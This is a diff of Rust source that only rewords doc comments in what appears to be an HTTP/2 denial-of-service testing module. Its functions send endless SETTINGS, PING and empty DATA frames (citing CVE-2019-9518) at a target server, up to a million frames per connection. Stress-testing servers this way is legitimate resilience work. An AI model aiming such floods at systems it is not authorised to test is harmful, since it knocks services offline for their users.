@@ -1,4 +1,4 @@
-//! Frames that cost their sender nothing and want an answer, or a place in a table.
+//! Frames that cost their sender nothing but require an answer or an entry in a table.
 
 use tokio::time::Instant;
 
@@ -11,12 +11,12 @@ use crate::{
     wire::Wire,
 };
 
-/// Frames of each kind on one connection at most.
+/// The most frames of each kind on one connection.
 const FRAMES_MAX: u64 = 1_000_000;
-/// Frames that are written at once.
+/// The number of frames in one write.
 const BURST_FRAMES: usize = 512;
 
-/// SETTINGS without end, from one who reads the answers and from one who does not.
+/// Sends endless SETTINGS, once while reading the answers and once without reading.
 pub async fn settings_flood(target: &Target, until: Instant) -> Report {
     let frame = settings(&[(HEADER_TABLE_SIZE, 4_096)]);
     flood(target, until, &frame, false)
@@ -24,7 +24,7 @@ pub async fn settings_flood(target: &Target, until: Instant) -> Report {
         .and(&flood(target, until, &frame, true).await)
 }
 
-/// PING without end, likewise.
+/// Sends endless PING frames in the same two ways.
 pub async fn ping_flood(target: &Target, until: Instant) -> Report {
     let frame = frame(PING, NONE, 0, b"12345678");
     flood(target, until, &frame, false)
@@ -32,7 +32,7 @@ pub async fn ping_flood(target: &Target, until: Instant) -> Report {
         .and(&flood(target, until, &frame, true).await)
 }
 
-/// Empty DATA (CVE-2019-9518), PRIORITY and tiny windows without end, on a call that never ends.
+/// Sends endless empty DATA (CVE-2019-9518), PRIORITY and tiny windows, on a call that never ends.
 pub async fn empty_frames_flood(target: &Target, until: Instant) -> Report {
     let mut report = Report::default();
     for frame in [
@@ -45,7 +45,7 @@ pub async fn empty_frames_flood(target: &Target, until: Instant) -> Report {
     report
 }
 
-/// Floods one connection for a third of the time that is left.
+/// Floods one connection for a third of the remaining time.
 async fn flood(target: &Target, until: Instant, frame_bytes: &[u8], reads: bool) -> Report {
     let until = Instant::now() + until.saturating_duration_since(Instant::now()) / 3;
     let mut report = Report::default();
